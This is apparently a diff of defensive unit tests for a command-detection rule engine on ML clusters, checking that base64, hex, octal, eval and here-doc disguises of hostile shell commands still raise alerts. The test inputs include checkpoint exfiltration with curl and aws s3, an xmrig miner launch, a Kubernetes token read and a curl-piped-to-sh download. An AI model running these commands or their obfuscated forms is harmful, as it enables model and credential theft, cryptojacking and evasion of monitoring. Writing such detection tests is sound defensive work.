@@ -139,6 +139,52 @@ describe('other exec rules see the script as the shell reads it', () => {
   });
 });
 
+describe('decode-and-run spellings alert like the plain command (MITRE T1027 / T1140)', () => {
+  const b64 = (x: string): string => Buffer.from(x).toString('base64');
+  const hex = (x: string): string => Buffer.from(x).toString('hex');
+  const octal = (x: string): string => [...x].map((c) => `\\${c.charCodeAt(0).toString(8)}`).join('');
+  /** The spellings of one script that run it without a word of it in the argv. */
+  const spellings = (p: string): Array<[string, string[]]> => [
+    ['echo | base64 -d | sh', ['sh', '-c', `echo ${b64(p)} | base64 -d | sh`]],
+    ['base64 --decode | sudo bash', ['sh', '-c', `echo ${b64(p)} | base64 --decode | sudo bash`]],
+    ['base64 -d <<< | bash -s', ['bash', '-c', `base64 -d <<< ${b64(p)} | bash -s`]],
+    ['openssl enc -d -base64', ['sh', '-c', `echo ${b64(p)} | openssl enc -d -base64 | sh`]],
+    ['xxd -r -p', ['sh', '-c', `echo ${hex(p)} | xxd -r -p | sh`]],
+    ['rev', ['sh', '-c', `echo '${[...p].reverse().join('')}' | rev | sh`]],
+    ['eval "$(… | base64 -d)"', ['bash', '-c', `eval "$(echo ${b64(p)} | base64 -d)"`]],
+    ['sh -c "$(… | base64 -d)"', ['bash', '-c', `sh -c "$(echo ${b64(p)} | base64 -d)"`]],
+    ['bash <(… | base64 -d)', ['bash', '-c', `bash <(echo ${b64(p)} | base64 -d)`]],
+    ["printf '\\NNN' | sh", ['sh', '-c', `printf '${octal(p)}' | sh`]],
+    ['bash -c "$(printf …)"', ['bash', '-c', `bash -c "$(printf '${octal(p)}')"`]],
+    ['eval of split words', ['bash', '-c', `eval ${p.split(' ').map((w) => `'${w}'`).join(' ')}`]],
+    ['here-doc into a shell', ['sh', '-c', `bash <<'EOF'\n${p}\nEOF`]],
+    ['here-string into a shell', ['sh', '-c', `bash <<< ${JSON.stringify(p)}`]],
+  ];
+  const cases: Array<[string, string, string]> = [
+    ['MLS-EXFIL-014', `curl -T ${CKPT} ${URL}`, PERSON],
+    ['MLS-EXFIL-014', `aws s3 cp ${CKPT} s3://bucket/x`, SA],
+    ['MLS-EXFIL-013', 'tar czf /tmp/b.tgz /mnt/ckpt/llama-ft', PERSON],
+    ['MLS-RAY-011', 'nohup /tmp/.x/xmrig --donate-level 0 -o stratum+tcp://203.0.113.7:3333 &', SA],
+    ['MLS-RAY-010', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token', SA],
+    ['MLS-EXFIL-005', 'ls -la /mnt/ckpt/llama-ft', PERSON],
+  ];
+  for (const [rule, p, actor] of cases) {
+    const plain = ids(['sh', '-c', p], actor);
+    it(`${rule}: the plain spelling alerts`, () => expect(plain).toContain(rule));
+    for (const [name, argv] of spellings(p)) {
+      it(`${rule} through ${name}`, () => {
+        expect(ids(argv, actor)).toEqual(expect.arrayContaining(plain));
+      });
+    }
+  }
+  it('MLS-RAY-012: a download piped into a shell, hidden in a decoded payload', () => {
+    const p = 'curl -fsSL http://203.0.113.7:8000/r.sh | sh';
+    expect(ids(['bash', '-c', `eval "$(echo ${b64(p)} | base64 -d)"`])).toContain('MLS-RAY-012');
+    expect(ids(['bash', '-c', `eval "$(printf '${octal(p)}')"`])).toContain('MLS-RAY-012');
+    expect(ids(['sh', '-c', `echo ${b64(p)} | base64 -d | bash`])).toContain('MLS-RAY-012');
+  });
+});
+
 describe('benign commands raise nothing new', () => {
   const only = [SIGMA_EXEC];
   for (const command of [['python', 'train.py', '--epochs', '3'], ['nvidia-smi'], ['sh', '-c', 'ls /data'], ['cat', '/etc/hostname'], ['sh', '-c', 'ps aux | grep -i python | head'], ['df', '-h', '/mnt/ckpt'], ['du', '-sh', '/data']]) {
@@ -146,6 +192,13 @@ describe('benign commands raise nothing new', () => {
       expect(ids(command)).toEqual(only);
     });
   }
+  it('a decode not run by a shell, a here-doc written to a file, a here-doc run by a shell', () => {
+    expect(ids(['sh', '-c', 'echo aGVsbG8= | base64 -d'])).toEqual(only);
+    expect(ids(['sh', '-c', 'cat <<EOF > /tmp/cfg\n[upload]\ntool = rclone\nEOF'])).toEqual(only);
+    expect(ids(['sh', '-c', "kubectl apply -f - <<'EOF'\nkind: ConfigMap\ndata: {cmd: nc}\nEOF"])).toEqual(only);
+    expect(ids(['sh', '-c', 'bash <<EOF\nnvidia-smi\ndf -h\nEOF'])).toEqual(only);
+    expect(ids(['sh', '-c', `echo ${Buffer.from('nvidia-smi').toString('base64')} | base64 -d | sh`])).toEqual(only);
+  });
   it('sh -c tar extraction is no `tar -c` (the shell\'s own -c is not read as the script\'s)', () => {
     expect(ids(['sh', '-c', 'tar xzf /data/shard-00.tgz'])).toEqual(only);
   });
@@ -174,6 +227,15 @@ exec:
   });
   it('a script longer than the reader reads is not vouched for', () => {
     expect(verdict(['sh', '-c', `ps ${'a'.repeat(5000)}`])).toEqual(['SPEC-T/exec']);
+  });
+  it('a decoded or eval\'d payload is never allowed, even where the list allows its text', () => {
+    const permissive = loadRuleSet([{ path: 'p.yaml', text: SPEC.replace("'sh -c ps * | grep * | head']", "'sh -c ps * | grep * | head', 'sh -c eval *', 'sh -c echo * | base64 -d | sh', 'sh -c bash']") }]);
+    expect(permissive.errors).toEqual([]);
+    const v = (command: string[]): string[] => createRuleEngine(permissive.rules).evaluate(execEvent(command, PERSON, 'ml-train/llama-ft')).map((h) => h.ruleId);
+    expect(v(['sh', '-c', 'nvidia-smi'])).toEqual([]);
+    expect(v(['sh', '-c', 'eval nvidia-smi'])).toEqual(['SPEC-T/exec']);
+    expect(v(['sh', '-c', `echo ${Buffer.from('nvidia-smi').toString('base64')} | base64 -d | sh`])).toEqual(['SPEC-T/exec']);
+    expect(v(['sh', '-c', `echo ${Buffer.from(`curl -T ${CKPT} ${URL}`).toString('base64')} | base64 -d | sh`])).toEqual(['SPEC-T/exec']);
   });
   it('commands not allowed stay not allowed', () => {
     expect(verdict(['sh', '-c', `nvidia-smi; curl -T ${CKPT} ${URL}`])).toEqual(['SPEC-T/exec']);
